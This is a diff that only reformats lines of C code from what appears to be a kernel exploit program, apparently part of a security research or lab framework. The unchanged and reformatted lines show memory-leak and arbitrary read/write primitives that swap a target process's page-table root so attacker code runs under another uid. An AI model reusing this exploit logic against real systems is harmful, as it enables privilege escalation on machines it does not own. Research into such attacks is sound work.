@@ -120,8 +120,8 @@ static bool await_target(pid_t starter, const char *stack, struct target *target
 		sched_yield();
 		attack_leak(&leak);
 		target->as = leak.as_newest;
-		target->root = (uint32_t)bw_vuln_read(
-			target->as + leak.as_root - (uint64_t)bw_vuln_read(leak.process_as));
+		target->root = (uint32_t)bw_vuln_read(target->as + leak.as_root -
+						      (uint64_t)bw_vuln_read(leak.process_as));
 		if ((uint64_t)bw_vuln_read(shared->process_as) != starters) {
 			waitpid(starter, NULL, 0);
 			return false;
@@ -148,8 +148,8 @@ static bool swap(const struct bw_leak *leak, const char *stack)
 	if (starter < 0 || !await_target(starter, stack, &target)) {
 		return false;
 	}
-	attack_check("vuln_write", bw_vuln_write(target.as + leak->as_cr3 - own,
-						 shared->root * BW_PAGE_SIZE));
+	attack_check("vuln_write",
+		     bw_vuln_write(target.as + leak->as_cr3 - own, shared->root * BW_PAGE_SIZE));
 	bw_vuln_store(target.as + leak->as_root - own, shared->root, ROOT_BYTES);
 	while (shared->uid == UID_UNKNOWN && waitpid(starter, NULL, WNOHANG) == 0) {
 		sched_yield();
@@ -171,8 +171,8 @@ int main(int argc, char *argv[])
 	(void)argc;
 	attack_begin(&leak, 1, 0);
 	entry = program_entry(&leak);
-	shared = mmap(NULL, BW_PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1,
-		      0);
+	shared =
+		mmap(NULL, BW_PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
 	shared->uid = UID_UNKNOWN;
 	holder = fork();
 	if (holder == 0) {
@@ -183,8 +183,7 @@ int main(int argc, char *argv[])
 	}
 	attack_say(PROGRAM " begins at 0x%lx, where the root in frame 0x%lx has other code", entry,
 		   shared->root);
-	for (int tries = 0; tries < TRIES_MAX && !swap(&leak, argv[0]); tries++) {
-	}
+	for (int tries = 0; tries < TRIES_MAX && !swap(&leak, argv[0]); tries++) {}
 	attack_say("code of the attacker's ran there as uid %d", shared->uid);
 	kill(holder, SIGKILL);
 	waitpid(holder, NULL, 0);
